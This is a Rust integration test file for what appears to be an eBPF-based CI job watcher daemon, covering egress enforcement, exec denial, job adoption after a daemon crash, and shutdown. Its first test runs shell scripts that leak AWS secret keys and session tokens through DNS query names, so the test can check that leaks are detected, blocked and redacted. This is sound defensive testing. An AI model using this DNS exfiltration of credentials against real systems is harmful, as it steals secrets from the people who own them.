    // Job a (audit): leaks its own key, b's, the daemon's; puts its key in an argument; then
    // exports a new value (taken from an unprotected variable, so no argument holds it) that
    // a child leaks (the child sleeps first: the daemon reads its environment at its exec).
    let script_a = format!(
        "{np} sleep 300 {} {} {}; /bin/echo \"$AWS_SECRET_ACCESS_KEY\" >/dev/null; \
         export AWS_SESSION_TOKEN=\"$WDT_LATER\"; sh -c '{np} sleep 300 {}; true'; {np} sleep 500",
        q(&a),
        q(&b),
        q(&own),
        q(&later)
    );
    // Job b (enforce), at the same time: leaks its own key and a's.
    let script_b = format!("{np} sleep 300 {} {}; {np} sleep 800", q(&b), q(&a));
    let spawn = |id: &str, repo: &str, key: &str, script: &str| {
        Command::new("sh")
            .args(["-c", script])
            .env("WDT_SEC_RUN_ID", id)
            .env("WDT_REPO", repo)
            .env("AWS_SECRET_ACCESS_KEY", key)
            .env_remove("AWS_SESSION_TOKEN")
            .env("WDT_LATER", &later)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    };
    let ja = spawn("a", "acme/audit", &a, &script_a);
    let jb = spawn("b", "acme/enforce", &b, &script_b);
    let (oa, ob) = (ja.wait_with_output().unwrap(), jb.wait_with_output().unwrap());
    let (ea, eb) = (String::from_utf8_lossy(&oa.stderr).into_owned(), String::from_utf8_lossy(&ob.stderr).into_owned());
    assert!(oa.status.success() && ob.status.success(), "{ea}\n{eb}\n{}", d.log());
    // Audit lets job a's queries out; enforce drops job b's.
    let names: Vec<String> = dns.queries().iter().map(|q| q.name.to_ascii_lowercase()).collect();
    assert!(
        names.contains(&exfil_name(&a).to_ascii_lowercase())
            && names.contains(&exfil_name(&later).to_ascii_lowercase()),
        "{names:?}\n{ea}"
    );
    assert_eq!(names.len(), 4, "job b's queries never leave: {names:?}\n{eb}");
    let mut st = Value::Null;
    assert!(
        wait_until(Duration::from_secs(20), || {
            st = d.status();
            st["jobs"].as_array().unwrap().iter().filter(|j| j["state"] == "ended").count() == 2
        }),
        "{st:#}\n{}",
        d.log()
    );
    let ended = |id: &str| {
        st["jobs"].as_array().unwrap().iter().find(|j| j["id"] == format!("WDT_SEC_RUN_ID={id}")).unwrap().clone()
    };
    let (la, lb) = (ended("a"), ended("b"));
    let text_a = std::fs::read_to_string(dir.join(la["log"].as_str().unwrap())).unwrap();
    let text_b = std::fs::read_to_string(dir.join(lb["log"].as_str().unwrap())).unwrap();
    let (log_a, log_b) =
        (read_jsonl(dir.join(la["log"].as_str().unwrap())), read_jsonl(dir.join(lb["log"].as_str().unwrap())));
    // Each job's alerts name its own values only: not the other job's, not the daemon's.
    assert_eq!(
        secret_alerts(&log_a),
        vec![
            ("AWS_SECRET_ACCESS_KEY".to_string(), redacted(&a), "flag".to_string()),
            ("AWS_SESSION_TOKEN".to_string(), redacted(&later), "flag".to_string()),
        ],
        "{text_a}\n{}",
        d.log()
    );
    assert_eq!(
        secret_alerts(&log_b),
        vec![("AWS_SECRET_ACCESS_KEY".to_string(), redacted(&b), "deny".to_string())],
        "{text_b}\n{}",
        d.log()
    );
    let alert = log_a.iter().find(|e| e["kind"] == "alert" && e["variable"] == "AWS_SECRET_ACCESS_KEY").unwrap();
    let msg = alert["message"].as_str().unwrap();
    assert!(
        msg.contains("AWS_SECRET_ACCESS_KEY") && msg.contains(&redacted(&a)) && msg.contains("DNS query name"),
        "{msg}"
    );
    // The key expanded into an argument is logged redacted.
    let echo = log_a
        .iter()
        .find(|e| e["kind"] == "exec" && e["filename"] == "/bin/echo")
        .unwrap_or_else(|| panic!("{text_a}"));
    assert_eq!(echo["argv"], serde_json::json!(["/bin/echo", redacted(&a)]), "{echo}");
    // No value is written anywhere: logs and the daemon's own output.
    let daemon_log = d.log();
    for v in [&a, &b, &later, &own] {
        for (what, text) in [("job a's log", &text_a), ("job b's log", &text_b), ("the daemon's output", &daemon_log)] {
            assert!(!text.contains(v.as_str()), "a value is in {what}");
        }
    }
    assert!(daemon_log.contains("AWS_SECRET_ACCESS_KEY"), "the names looked for are logged: {daemon_log}");
    assert_eq!(d.stop(), Some(0));
}

/// A child killed (SIGCONT first: it may be stopped) and reaped when the test ends, passed or not.
struct KillOnDrop(Option<Child>);

impl KillOnDrop {
    fn pid(&self) -> u32 {
        self.0.as_ref().unwrap().id()
    }
}

impl Drop for KillOnDrop {
    /// SIGCONT first (a stopped process is killed too); a child that leads its own process
    /// group (`process_group(0)`) with its whole group.
    fn drop(&mut self) {
        if let Some(mut c) = self.0.take() {
            let pid = c.id() as i32;
            // SAFETY: our own child, or its own process group.
            unsafe {
                let target = if libc::getpgid(pid) == pid { -pid } else { pid };
                libc::kill(target, libc::SIGCONT);
                libc::kill(target, libc::SIGKILL);
            }
            let _ = c.wait();
        }
    }
}

fn proc_state(pid: u32) -> Option<char> {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|s| s.rsplit(')').next().and_then(|r| r.trim().chars().next()))
}

#[test]
fn a_job_held_when_the_daemon_was_killed_is_adopted_by_the_next_daemon() {
    if !root_or_skip() {
        return;
    }
    // No other test may start a watcher (which removes what a dead one left) meanwhile.
    let _window = watcher_tests::hard_kill_window();
    let dir = TempDir::new("watcher-daemon-adopttest");
    let ok = Listener::start("127.0.0.1:0".parse().unwrap()).unwrap();
    let bad = Listener::start("127.0.0.2:0".parse().unwrap()).unwrap();
    let (okp, badp) = (ok.addr().port(), bad.addr().port());
    std::fs::write(dir.join("adopt.yaml"), policy("adopt", "enforce", okp)).unwrap();
    // A second job whose first program its policy denies.
    std::fs::write(dir.join("deny.yaml"), policy("deny", "enforce", okp) + "exec:\n  deny: [netprobe]\n").unwrap();
    let config = dir.join("daemon.yaml");
    std::fs::write(
        &config,
        "version: 1\nsocket: run/watcher.sock\nlog_dir: logs\njob_end_grace: 300ms\n\
         jobs:\n  id_env: [WDT_ADOPT_RUN_ID]\n  pipeline_env: [WDT_REPO]\n\
         pipelines:\n  - match: \"acme/adopt\"\n    policy: adopt.yaml\n  - match: \"acme/deny\"\n    policy: deny.yaml\n",
    )
    .unwrap();
    let mut first = Daemon::start(&config, &dir);
    // Stopped, the daemon cannot set the job up: the kernel holds its first program.
    first.signal(libc::SIGSTOP);
    let id = format!("{}07", std::process::id());
    let np = netprobe_bin().display().to_string();
    let held = KillOnDrop(Some(
        Command::new("sh")
            .args(["-c", &format!("{np} tcp 127.0.0.1:{okp} tcp 127.0.0.2:{badp}")])
            .env("WDT_ADOPT_RUN_ID", &id)
            .env("WDT_REPO", "acme/adopt")
            .stdin(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    ));
    let pid = held.pid();
    assert!(
        wait_until(Duration::from_secs(5), || proc_state(pid) == Some('T')),
        "the job was not held: {:?}",
        proc_state(pid)
    );
    let denied_id = format!("{}08", std::process::id());
    let mut denied = KillOnDrop(Some(
        Command::new(netprobe_bin())
            .args(["tcp", &format!("127.0.0.1:{okp}")])
            .env("WDT_ADOPT_RUN_ID", &denied_id)
            .env("WDT_REPO", "acme/deny")
            .stdin(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    ));
    assert!(
        wait_until(Duration::from_secs(5), || proc_state(denied.pid()) == Some('T')),
        "the second job was not held"
    );
    // A process stopped for another reason, with no job variable: never touched.
    let other = KillOnDrop(Some(Command::new("sleep").arg("60").stdin(Stdio::null()).spawn().unwrap()));
    // SAFETY: our own child.
    unsafe { libc::kill(other.pid() as i32, libc::SIGSTOP) };
    assert!(wait_until(Duration::from_secs(5), || proc_state(other.pid()) == Some('T')));

    // Killed hard while the job is held: nobody continues it.
    first.signal(libc::SIGKILL);
    let _ = first.child.take().unwrap().wait();
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(proc_state(pid), Some('T'), "the held job did not stay stopped");
    assert_eq!(ok.connections() + bad.connections(), 0, "a job ran before it was set up");

    // The next daemon adopts it: its tables are written before it runs, so the enforce policy
    // holds from its first instruction.
    let mut d = Daemon::start(&config, &dir);
    let mut held = held;
    let mut child = held.0.take().unwrap();
    let mut status = None;
    let exited = wait_until(Duration::from_secs(20), || {
        status = child.try_wait().unwrap();
        status.is_some()
    });
    if !exited {
        held.0 = Some(child);
        panic!("the held job was not continued: state {:?}\n{}", proc_state(pid), d.log());
    }
    let mut err = String::new();
    child.stderr.take().unwrap().read_to_string(&mut err).unwrap();
    assert!(status.unwrap().success(), "{err}");
    assert!(err.contains(&format!("connect 127.0.0.2:{badp}: Operation not permitted (EPERM)")), "{err}");
    assert_eq!(bad.connections(), 0, "the adopted job reached a forbidden address: {err}");
    assert_eq!(ok.connections(), 1, "the adopted job's allowed connect failed: {err}");
    let log = d.log();
    assert!(log.contains("adopted a job a previous daemon left held") && log.contains(&format!("pid={pid}")), "{log}");
    assert_eq!(proc_state(other.pid()), Some('T'), "a process stopped for another reason was continued");

    let mut st = Value::Null;
    let want = format!("WDT_ADOPT_RUN_ID={id}");
    assert!(
        wait_until(Duration::from_secs(20), || {
            st = d.status();
            st["jobs"].as_array().unwrap().iter().any(|j| j["id"] == want.as_str() && j["state"] == "ended")
        }),
        "{st:#}\n{}",
        d.log()
    );
    assert_eq!(st["counters"]["adopted_jobs"], 2, "{st:#}");
    let j = st["jobs"].as_array().unwrap().iter().find(|j| j["id"] == want.as_str()).unwrap().clone();
    let events = read_jsonl(dir.join(j["log"].as_str().unwrap()));
    let text: Vec<String> = events.iter().map(|e| e.to_string()).collect();
    // The denied connect, and the gap the restart left (its exec was not seen by this daemon).
    assert_eq!((j["mode"].as_str(), j["alerts"].as_u64()), (Some("enforce"), Some(2)), "{j:#}\n{text:#?}");
    assert_eq!(events[0]["kind"], "start");
    assert_eq!(events[0]["job"]["id"], want.as_str());
    assert_eq!(events[0]["policy"]["mode"], "enforce");
    assert!(events.iter().any(|e| e["kind"] == "loss" && e["source"] == "restart"), "{text:#?}");
    let connects: Vec<&Value> = events.iter().filter(|e| e["kind"] == "connect").collect();
    assert_eq!(connects.len(), 2, "{text:#?}");
    assert_eq!(connects.iter().find(|c| c["daddr"] == "127.0.0.2").unwrap()["allowed"], false);
    assert_eq!(connects.iter().find(|c| c["daddr"] == "127.0.0.1").unwrap()["allowed"], true);
    assert_eq!(
        alerts(&events),
        vec![("events-lost".to_string(), "flag".to_string()), ("egress-denied".to_string(), "deny".to_string())],
        "{text:#?}"
    );
    assert_eq!(events.last().unwrap()["kind"], "end", "{text:#?}");
    assert_eq!(events.last().unwrap()["exit_code"], 0, "{text:#?}");

    // The adopted job whose first program its policy denies: killed before its first
    // instruction (it never connected), and the kill is in its log as the job's verdict.
    let st = denied.0.take().unwrap().wait().unwrap();
    assert_eq!(st.signal(), Some(libc::SIGKILL), "{}", d.log());
    assert_eq!(ok.connections(), 1, "the denied first program ran");
    let want = format!("WDT_ADOPT_RUN_ID={denied_id}");
    let mut st = Value::Null;
    assert!(
        wait_until(Duration::from_secs(20), || {
            st = d.status();
            st["jobs"].as_array().unwrap().iter().any(|j| j["id"] == want.as_str() && j["state"] == "ended")
        }),
        "{st:#}\n{}",
        d.log()
    );
    let j = st["jobs"].as_array().unwrap().iter().find(|j| j["id"] == want.as_str()).unwrap().clone();
    let events = read_jsonl(dir.join(j["log"].as_str().unwrap()));
    let text: Vec<String> = events.iter().map(|e| e.to_string()).collect();
    assert_eq!(
        alerts(&events),
        vec![("events-lost".to_string(), "flag".to_string()), ("exec-denied".to_string(), "kill".to_string())],
        "{text:#?}"
    );
    let killed = events.iter().find(|e| e["kind"] == "alert" && e["rule"] == "exec-denied").unwrap();
    assert!(killed["message"].as_str().unwrap().contains("netprobe"), "{killed}");

    // SIGTERM: clean exit, none of the new daemon's programs left in the kernel.
    let progs = bpf_prog_ids(d.pid());
    assert!(progs.len() >= 10, "{progs:?}");
    assert_eq!(d.stop(), Some(0), "{}", d.log());
    assert!(!d.socket.exists());
    assert!(
        wait_until(Duration::from_secs(5), || progs.iter().all(|id| {
            !Command::new("bpftool").args(["prog", "show", "id", &id.to_string()]).output().unwrap().status.success()
        })),
        "programs of the stopped daemon are still loaded: {progs:?}"
    );
    assert_eq!(proc_state(other.pid()), Some('T'));
}

/// Stopping the daemon closes every job out; a job still running runs on, unwatched, and none
/// of its processes is left stopped. (The daemon used to remove a job's tables before its
/// programs were detached: a process of that job exec'ing in between had no tables, so the
/// kernel held it as the first of a job the daemon would never set up, for good. The GitLab
/// include's stop script hung that way on its `sleep`.)
#[test]
fn a_job_running_when_the_daemon_stops_runs_on_with_nothing_left_stopped() {
    if !root_or_skip() {
        return;
    }
    let dir = TempDir::new("watcher-daemon-stoptest");
    std::fs::write(dir.join("p.yaml"), policy("stop", "enforce", 9)).unwrap();
    let config = dir.join("daemon.yaml");
    std::fs::write(
        &config,
        "version: 1\nsocket: run/watcher.sock\nlog_dir: logs\njob_end_grace: 300ms\n\
         jobs:\n  id_env: [WDS]\n  pipeline_env: [WDT_REPO]\n\
         pipelines:\n  - match: \"acme/*\"\n    policy: p.yaml\n",
    )
    .unwrap();
    let mut d = Daemon::start(&config, &dir);
    // (The job variable's name is shorter than the 8 bytes the kernel's environment
    // prefilter reads: "WDS=1234" is the name and the value's first bytes.)
    let id = format!("{}09", std::process::id());
    let flag = dir.join("loop-done");
    // Execs as fast as it can, through the daemon's stop and after it, until told to end.
    let script =
        format!("n=0; while [ ! -e {} ] && [ $n -lt 100000 ]; do /bin/true; n=$((n+1)); done; echo $n", flag.display());
    let mut job = KillOnDrop(Some(
        Command::new("sh")
            .args(["-c", &script])
            .env("WDS", &id)
            .env("WDT_REPO", "acme/web")
            .process_group(0)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap(),
    ));
    let pgid = job.0.as_ref().unwrap().id() as i32;
    assert!(
        wait_until(Duration::from_secs(20), || {
            let want = format!("WDS={id}");
            d.status()["jobs"].as_array().unwrap().iter().any(|j| j["id"] == want.as_str())
        }),
        "the job did not start: {}",
        d.log()
    );
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(d.stop(), Some(0), "{}", d.log());
    std::thread::sleep(Duration::from_millis(500));
    std::fs::write(&flag, "").unwrap();
    let mut child = job.0.take().unwrap();
    let mut status = None;
    let ended = wait_until(Duration::from_secs(20), || {
        status = child.try_wait().unwrap();
        status.is_some()
    });
    if !ended {
        job.0 = Some(child);
        let ps = Command::new("ps").args(["-eo", "pgid=,pid=,stat=,args="]).output().unwrap();
        let ps = String::from_utf8_lossy(&ps.stdout);
        let group: Vec<&str> =
            ps.lines().filter(|l| l.split_whitespace().next() == Some(pgid.to_string().as_str())).collect();
        panic!("the job did not end after the daemon stopped; its processes:\n{}\n{}", group.join("\n"), d.log());
    }
    let mut out = String::new();
    child.stdout.take().unwrap().read_to_string(&mut out).unwrap();
    assert!(status.unwrap().success(), "{out}");
    let n: u32 = out.trim().parse().unwrap();
    assert!(n > 0 && n < 100_000, "the loop ran {n} times");
}
